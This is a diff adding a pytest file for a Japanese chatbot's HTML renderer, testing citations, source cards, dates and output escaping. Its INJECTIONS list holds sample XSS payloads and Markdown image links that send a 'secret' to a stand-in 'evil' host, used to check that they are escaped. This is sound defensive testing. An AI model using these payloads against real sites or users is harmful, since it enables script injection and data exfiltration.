@@ -1,0 +1,191 @@
+"""Answer → HTML: what is marked, what is linked, and that no text of a document or a user becomes markup."""
+
+from __future__ import annotations
+
+from dataclasses import replace
+
+import pytest
+from fake_assistant import (
+    BIRTH_CITATIONS,
+    BIRTHS,
+    BURDEN,
+    BY_SUMMER,
+    CERTIFICATES,
+    DRAFT,
+    NEAREST,
+    PLAN,
+    cite,
+)
+
+from chatbot.answer import Answer, Citation
+from chatbot.web import cards, render
+from chatbot.web.escape import escape
+from chatbot.web.quotes import locate
+from chatbot.web.text import ENGLISH, JAPANESE
+from chatbot.web.turn import Turn
+
+INJECTIONS = (
+    "<img src=x onerror=alert(1)>",
+    "![](https://evil/?q=secret)",
+    "</p></div><script>alert(1)</script>",
+    '"><a href="javascript:alert(1)">x</a>',
+    "段落\n\n![](https://evil/)\n\n# 見出し",
+    "a\u2028\u2028![](https://evil/)\x85\x85b",
+)
+
+
+def answer(text: str, *citations: Citation, outcome: str = "answered") -> Answer:
+    return Answer("問い", outcome, text, citations, 1.0)  # type: ignore[arg-type]
+
+
+@pytest.mark.parametrize(
+    ("text", "quote", "spans"),
+    [
+        ("あいう。えお。", "えお。", [(4, 7)]),
+        ("2026 年度を\n目途に", "2026年度を目途", [(0, 11)]),
+        (
+            "一つ目の長い文である。間の文。三つ目の長い文である。",
+            "一つ目の長い文である。三つ目の長い文である。",
+            [(0, 11), (15, 26)],
+        ),
+        ("あいう。", "ない。", []),
+        ("あいう。", "", []),
+        ("ここは別。等。", "別の文。等。", []),
+    ],
+)
+def test_a_quote_is_found_whatever_its_white_space(text: str, quote: str, spans: list[tuple[int, int]]) -> None:
+    assert locate(text, quote) == spans
+
+
+def test_the_quoted_sentence_alone_is_marked() -> None:
+    shown = cards.quoted_passage(f"{BURDEN}\n{BY_SUMMER}", BY_SUMMER)
+    assert shown == f"{BURDEN}<br><mark>{BY_SUMMER}</mark>"
+
+
+def test_footnote_marks_are_shown_as_superscript_digits() -> None:
+    shown = cards.quoted_passage(BIRTHS + CERTIFICATES, BIRTHS)
+    assert shown.startswith(f"<mark>{BIRTHS}</mark>また、出生証明書")
+    assert "（PMH²³）" in shown
+
+
+def test_a_quote_that_is_not_in_its_passage_is_still_shown() -> None:
+    assert cards.quoted_passage("別の文。", "引用の文。") == "<mark>引用の文。</mark><br>別の文。"
+
+
+def test_each_part_of_the_answer_links_to_its_card() -> None:
+    shown = render.answer_text(answer(f"{BIRTHS}\n{BY_SUMMER}", *BIRTH_CITATIONS), 3, JAPANESE)
+    link = '<a class="cite" href="#source-3-{0}"><span class="visually-hidden">出典</span>{0}</a>'
+    assert shown == f"<p>{BIRTHS}{link.format(1)}</p><p>{BY_SUMMER}{link.format(2)}</p>"
+
+
+def test_marks_written_in_the_text_become_links() -> None:
+    marks = render.citation_marks(answer("本文である [1]。[7] は出典ではない。", cite(1, PLAN, (), "別", "別")))
+    assert marks == [(5, 9, 1)]
+
+
+def test_an_answer_cut_off_inside_its_last_quote_keeps_the_mark() -> None:
+    text = f"{BIRTHS}\n{BY_SUMMER[:30]}"
+    assert render.citation_marks(answer(text, *BIRTH_CITATIONS)) == [
+        (len(BIRTHS), len(BIRTHS), 1),
+        (len(text), len(text), 2),
+    ]
+
+
+def test_further_passages_are_folded_and_not_called_sources() -> None:
+    shown = render.reply(answer(BIRTHS, *BIRTH_CITATIONS), 1, JAPANESE)
+    sources, _, further = shown.partition("<details>")
+    assert "<h3>出典（1件）</h3>" in sources and 'id="source-1-1"' in sources
+    assert "<summary>関連する記載（1件）</summary>" in further and 'id="source-1-2"' in further
+
+
+def test_an_answer_not_found_shows_the_nearest_passages_and_where_to_ask() -> None:
+    shown = render.reply(answer("記載が見つかりませんでした。", *NEAREST, outcome="not_found"), 1, JAPANESE)
+    assert '<p class="outcome">記載なし</p>' in shown
+    assert "<h3>関連する記載（1件）</h3>" in shown
+    assert "窓口にお尋ねください" in shown
+
+
+def test_an_answer_without_citations_has_no_list_of_sources() -> None:
+    assert "sources" not in render.reply(answer("原文の引用でお答えします。", outcome="not_found"), 1, JAPANESE)
+
+
+@pytest.mark.parametrize(
+    ("outcome", "badge"), [("answered", "回答"), ("partial", "一部回答"), ("not_found", "記載なし")]
+)
+def test_the_outcome_is_said_in_words(outcome: str, badge: str) -> None:
+    assert f'<p class="outcome">{badge}</p>' in render.reply(answer("本文", outcome=outcome), 1, JAPANESE)
+
+
+def test_a_card_names_its_document() -> None:
+    card = cards.source_card(BIRTH_CITATIONS[1], 2, JAPANESE)
+    assert card.startswith('<li class="card" id="source-2-2" tabindex="-1">')
+    assert '<span lang="ja">デジタル行財政改革 取りまとめ2026（案）</span>' in card
+    assert '<time datetime="2026-07-07">2026年7月7日</time><span lang="ja">デジタル行財政改革会議</span>' in card
+    assert '<span class="status status-draft">案（決定前の文書）</span>' in card
+    assert "③ 子育て › ② 出生届のオンライン化" in card
+
+
+def test_a_card_without_headings_has_no_empty_path() -> None:
+    assert 'class="path"' not in cards.source_card(cite(1, PLAN, (), "文。", "文。"), 1, JAPANESE)
+
+
+@pytest.mark.parametrize(
+    ("name", "badge"), [("案", "status-draft"), ("決定", '<span class="status" lang="ja">決定</span>')]
+)
+def test_a_draft_is_named_as_one(name: str, badge: str) -> None:
+    assert badge in cards.status(name, JAPANESE)
+
+
+@pytest.mark.parametrize(
+    ("date", "shown"),
+    [
+        ("2025-06-13", '<time datetime="2025-06-13">2025年6月13日</time>'),
+        ("2025-08", '<time datetime="2025-08">2025年8月</time>'),
+        ("2025", '<time datetime="2025">2025年</time>'),
+    ],
+)
+def test_dates_in_japanese(date: str, shown: str) -> None:
+    assert cards.published(date, JAPANESE) == shown
+
+
+def test_dates_in_english() -> None:
+    assert cards.published("2025-06-13", ENGLISH) == '<time datetime="2025-06-13">2025-06-13</time>'
+
+
+@pytest.mark.parametrize("injected", INJECTIONS)
+def test_no_text_becomes_markup(injected: str) -> None:
+    """Every place that a text can come from: question, answer, passage, quote, title, headings, publisher, status."""
+    document = replace(PLAN, title=injected, publisher=injected, status=injected, published=injected)
+    citation = cite(1, document, (injected,), f"前の文。{injected}後の文。", injected)
+    turns = (Turn(injected, answer(f"{injected}である。", citation, outcome="partial")), Turn(injected))
+    shown = [
+        render.transcript(turns, ENGLISH),
+        render.masthead((document,), ENGLISH),
+        render.message(injected),
+        render.announcement(answer(injected, citation), JAPANESE),
+    ]
+    for page in shown:
+        assert not any(tag in page for tag in ("<img", "<script", '<a href="javascript'))
+        assert len(page.splitlines()) == 1  # a blank line would end the HTML block and begin Markdown
+    visible = escape(injected.strip())
+    assert visible in shown[0] and visible in shown[1]
+
+
+def test_turns_are_numbered_and_a_pending_one_says_so() -> None:
+    shown = render.transcript((Turn("一"), Turn(" 二\n行 ")), JAPANESE)
+    assert shown.count('<p class="searching">文書を調べています…</p>') == 2
+    assert (
+        '<div class="turn" id="turn-2"><h2 class="asked"><span class="visually-hidden">質問：</span>二<br>行</h2>'
+        in shown
+    )
+
+
+def test_the_masthead_counts_and_lists_the_documents() -> None:
+    shown = render.masthead((DRAFT, PLAN), JAPANESE)
+    assert "回答は2つの文書から自動で抜き出した引用です。" in shown
+    assert "<summary>対象の文書（2件）</summary>" in shown
+    assert '<a class="language" href="en/" lang="en">English</a>' in shown
+
+
+def test_the_announcement_counts_sources_only() -> None:
+    assert render.announcement(answer(BIRTHS, *BIRTH_CITATIONS), JAPANESE) == f"<p>回答。{BIRTHS} 出典1件。</p>"
